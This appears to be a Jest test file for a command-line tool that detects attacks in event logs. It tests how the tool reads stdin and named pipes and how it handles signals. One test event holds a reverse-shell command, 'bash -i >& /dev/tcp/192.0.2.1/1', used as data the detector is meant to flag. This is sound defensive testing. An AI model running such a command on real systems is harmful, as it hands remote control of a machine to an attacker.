// Standard input is whatever the shell makes of it: a pipe, or a file that can be read twice.
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { openSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from '@jest/globals';
import type { Alert } from '../../src/alert/index.js';
import { withFiles } from '../io/files.js';
import { mkfifoSync } from '../io/mkfifo.js';
import { BIN, ndjson, runCli, SAMPLES, startCli } from '../support/cli.js';

const attack = path.join(SAMPLES, 'attack.ndjson');
const packed = path.join(SAMPLES, 'auditd-manager.ndjson.gz');

/** All of an alert but where it was found. */
const content = (line: Readonly<Record<string, unknown>>): unknown => line['id'];

const redirected = (file: string): readonly Record<string, unknown>[] =>
  ndjson(
    spawnSync(process.execPath, [BIN, '-', '--json'], {
      stdio: [openSync(file, 'r'), 'pipe', 'pipe'],
      encoding: 'utf8',
    }).stdout,
  );

describe.each([attack, packed])('%s', (file) => {
  test('by name, redirected and through a pipe: the same alerts', async () => {
    const named = ndjson((await runCli([file, '--json'])).stdout).map(content);
    const piped = await runCli(['-', '--json'], { stdin: readFileSync(file) });
    expect(named.length).toBeGreaterThan(0);
    expect(redirected(file).map(content)).toEqual(named);
    expect(ndjson(piped.stdout).map(content).sort()).toEqual([...named].sort());
  });
});

test('a redirected file is called <stdin>, with the line of each event', () => {
  const [alert] = redirected(attack);
  const { events } = alert as unknown as Alert;
  expect(events[0]?.place.file).toBe('<stdin>');
  expect(events[0]?.place.line).toBeGreaterThan(1);
});

test.each([[[]], [['--follow']]])(
  'a named pipe that nobody writes to is waited for, and SIGTERM ends that: %j',
  async (flags) => {
    await withFiles({}, async (root) => {
      mkfifoSync(path.join(root, 'pipe'));
      const child = startCli(['pipe', 'later', ...flags], { cwd: root });
      child.stderr!.once('data', () => child.kill());
      const [code] = (await once(child, 'close')) as [number];
      expect(code).toBe(143);
    });
  },
);

test.each([
  ['scan', ['-', attack]],
  ['query', ['query', 'any where true', '-', attack]],
  ['fields', ['fields', '-']],
])('a pipe that does not end is given up with SIGTERM: %s', async (_, args) => {
  const child = startCli(args);
  child.stdin!.write(readFileSync(attack));
  child.stdout!.resume();
  child.stderr!.resume();
  await new Promise((resolve) => setTimeout(resolve, 1500));
  child.kill();
  const [code] = (await once(child, 'close')) as [number];
  expect(code).toBe(143);
});

test('a named pipe is read to the end of its writer', async () => {
  await withFiles({}, async (root) => {
    const pipe = path.join(root, 'pipe');
    mkfifoSync(pipe);
    const running = runCli([pipe, '--json']);
    spawn('sh', ['-c', `cat "${attack}" > "${pipe}"`]);
    const { stdout, code } = await running;
    expect(ndjson(stdout)).toHaveLength(3);
    expect(code).toBe(1);
  });
});

test('bulk requests: alerts carry index and id, from a file and from a pipe', async () => {
  const event = {
    '@timestamp': '2026-01-01T00:00:00Z',
    event: { category: 'process', type: 'start', action: 'exec' },
    host: { os: { type: 'linux' } },
    process: {
      name: 'setsid',
      args: ['setsid', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'],
      parent: { name: 'sh' },
    },
  };
  const action = { create: { _index: 'logs-endpoint.events.process-default', _id: 'x1' } };
  const stdin = `${JSON.stringify(action)}\n${JSON.stringify(event)}\n${JSON.stringify(event)}\n`;
  const { stdout } = await runCli(['-', '-o', 'json'], { stdin });
  const report = JSON.parse(stdout) as {
    alerts: Alert[];
    summary: { inputs: { format: string; compression: string }[] };
  };
  expect(report.alerts.map(({ events: [first] }) => [first?._index, first?._id])).toEqual([
    ['logs-endpoint.events.process-default', 'x1'],
    [null, null],
  ]);
  expect(report.summary.inputs[0]).toMatchObject({
    format: 'elasticsearch-bulk',
    compression: 'none',
  });
});

test('SIGINT before anything came: said, without a summary', async () => {
  // The warning shows that the program is up, and comes before it waits for input.
  const child = startCli(['-', '--exclude-rule', 'none']);
  let stderr = '';
  child.stderr!.on('data', (chunk: Buffer) => {
    if (stderr === '') child.kill('SIGINT');
    stderr += chunk.toString();
  });
  const [code] = (await once(child, 'close')) as [number];
  expect(code).toBe(130);
  expect(stderr).toMatch(/^warning\[RS130\].*\n\ninterrupted before any event was read\n$/s);
});

describe.each(['1', '2'])('a pipe that nobody ends, --jobs %s', (jobs) => {
  test('SIGTERM while it waits ends the run', async () => {
    const child = startCli(['-', '--json', '--jobs', jobs]);
    child.stdin!.write(readFileSync(attack));
    let stdout = '';
    child.stdout!.on('data', (chunk: Buffer) => {
      if (stdout === '') child.kill('SIGTERM');
      stdout += chunk.toString();
    });
    const [code] = (await once(child, 'close')) as [number];
    expect(code).toBe(143);
    expect(ndjson(stdout).length).toBeGreaterThan(0);
  });

  test('rules that are not there end the run before anything is read', async () => {
    const child = startCli(['-', '--rules', 'missing/', '--jobs', jobs]);
    const [code] = (await once(child, 'exit')) as [number];
    child.stdin!.destroy();
    expect(code).toBe(2);
  });

  test('a reader of alerts that goes away ends the run', async () => {
    const child = startCli(['-', '--json', '--jobs', jobs]);
    const events = readFileSync(attack);
    child.stdin!.on('error', () => undefined);
    const feed = (): void => {
      while (child.stdin!.writable && child.stdin!.write(events));
    };
    child.stdin!.on('drain', feed);
    child.stdout!.once('data', () => child.stdout!.destroy());
    feed();
    const [code] = (await once(child, 'exit')) as [number];
    child.stdin!.destroy();
    // There were alerts.
    expect(code).toBe(1);
  });
});
